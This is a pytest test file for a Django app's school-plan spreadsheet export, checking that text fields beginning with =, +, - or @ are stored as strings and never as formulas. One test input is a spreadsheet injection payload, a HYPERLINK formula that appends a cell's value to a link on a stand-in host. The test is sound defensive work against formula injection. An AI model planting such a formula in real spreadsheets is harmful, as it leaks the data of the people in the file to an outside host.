"""The PME workbook never carries a formula: action texts that start with
= + - @ are string cells, amounts and progress stay numbers."""

import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from pme import services
from tests.factories import FundingLineFactory

pytestmark = pytest.mark.django_db


def test_plan_xlsx_writes_formula_like_text_as_strings(pme_world, client):
    action = pme_world.action_a1
    action.name = '=HYPERLINK("http://x.example/?d="&D2,"ver")'
    action.description = "+1"
    action.responsible = "@SUM(A1:A9)"
    action.resources = "-2+3"
    action.save()
    FundingLineFactory(action=action, source="pie", amount=250_000)
    services.record_progress(by=pme_world.utp_a1, action=action, progress=30, note="=1+1")
    client.force_login(pme_world.director_a)
    response = client.get(f"/pme/plans/{pme_world.plan_a1.pk}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    header, row = list(book["Acciones"].iter_rows(max_row=2))
    cells = dict(zip([c.value for c in header], row, strict=True))
    for column, text in [
        ("Acción", action.name),
        ("Descripción", "+1"),
        ("Responsable", "@SUM(A1:A9)"),
        ("Recursos", "-2+3"),
    ]:
        assert cells[column].value == text and cells[column].data_type == "s"
    assert cells["PIE (CLP)"].value == 250_000 and cells["PIE (CLP)"].data_type == "n"
    assert cells["Avance (%)"].value == 30 and cells["Avance (%)"].data_type == "n"
    note = book["Avances"]["D2"]
    assert note.value == "=1+1" and note.data_type == "s"
    for sheet in book:
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_export_command_writes_formula_like_text_as_strings(pme_world, tmp_path):
    pme_world.action_a1.name = "=1+1"
    pme_world.action_a1.save()
    path = tmp_path / "plan.xlsx"
    call_command(
        "export_pme",
        rbd=pme_world.a1.rbd,
        year=2025,
        format="xlsx",
        output=str(path),
        stdout=io.StringIO(),
    )
    cell = load_workbook(path)["Acciones"]["C2"]
    assert cell.value == "=1+1" and cell.data_type == "s"
